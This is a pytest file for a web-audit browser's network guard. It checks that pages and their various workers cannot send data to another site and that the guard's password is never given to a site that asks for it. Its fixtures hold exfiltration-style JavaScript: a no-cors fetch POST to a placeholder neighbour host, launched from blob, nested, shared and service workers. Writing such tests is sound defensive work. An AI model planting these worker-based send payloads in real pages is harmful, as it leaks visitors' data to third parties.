"""Workers of a page pass the same decision as the page, and the guard's password goes to no site."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from auditbot.collect.browser.browser import Browser
from auditbot.collect.net.guard import Guard
from auditbot.collect.net.urls import Site
from auditbot.settings import Collect, School, Settings
from tests.browser.little_server import Answer, LittleServer

SENDS = "fetch('NEIGHBOUR/sent', {method: 'POST', mode: 'no-cors', body: 'names'}).catch(() => {});"
PAGES = {
    "the page itself": f"<script>{SENDS}</script>",
    "a worker from a blob": f"<script>new Worker(URL.createObjectURL(new Blob([`{SENDS}`])))</script>",
    "a worker from the site": "<script>new Worker('/worker.js')</script>",
    "a worker of a worker": "<script>new Worker('/outer.js')</script>",
    "a shared worker": "<script>try { new SharedWorker('/worker.js') } catch (error) {}</script>",
    "a service worker": "<script>navigator.serviceWorker?.register('/worker.js').catch(() => {})</script>",
}


@pytest.fixture
def servers() -> Iterator[tuple[LittleServer, LittleServer]]:
    """Return the school's site and a neighbour that may be reached, and to which a page may not send."""
    site, neighbour = LittleServer(), LittleServer({"/sent": "taken"})
    yield site, neighbour
    site.close()
    neighbour.close()


@pytest.mark.parametrize("page", PAGES)
def test_nothing_is_sent_to_another_site(page: str, servers: tuple[LittleServer, LittleServer]) -> None:
    site, neighbour = servers
    sends = SENDS.replace("NEIGHBOUR", neighbour.url)
    site.routes["/worker.js"] = Answer(sends, "text/javascript")
    site.routes["/outer.js"] = Answer("new Worker('/worker.js')", "text/javascript")
    site.routes["/"] = f"<p>Words.</p>{PAGES[page].replace('NEIGHBOUR', neighbour.url)}"
    site.routes["/next"] = "<p>More.</p>"
    allowed = (site.address, neighbour.address)
    settings = Settings(school=School(name="Larkmere"), collect=Collect(allow_loopback=allowed))
    with Guard({}, allowed, 5.0) as guard, Browser(settings, guard, Site(f"{site.url}/")) as browser:
        assert "Words." in browser.open(f"{site.url}/").html
        assert "More." in browser.open(f"{site.url}/next").html  # time for what was still under way
    assert neighbour.paths() == []


def test_a_site_that_asks_for_a_password_is_given_none(servers: tuple[LittleServer, LittleServer]) -> None:
    site, _ = servers
    for path in ("/", "/asks"):
        site.routes[path] = Answer(
            "<p>Staff only.</p>", status=401, headers={"WWW-Authenticate": 'Basic realm="staff"'}
        )
    settings = Settings(school=School(name="Larkmere"), collect=Collect(allow_loopback=(site.address,)))
    with Guard({}, (site.address,), 5.0) as guard, Browser(settings, guard, Site(f"{site.url}/")) as browser:
        assert browser.open(f"{site.url}/").status == 401
        assert guard.credentials[1] not in str([asked.headers for asked in site.asked])
    given = [name for asked in site.asked for name in asked.headers if "authorization" in name]
    assert site.asked and given == []
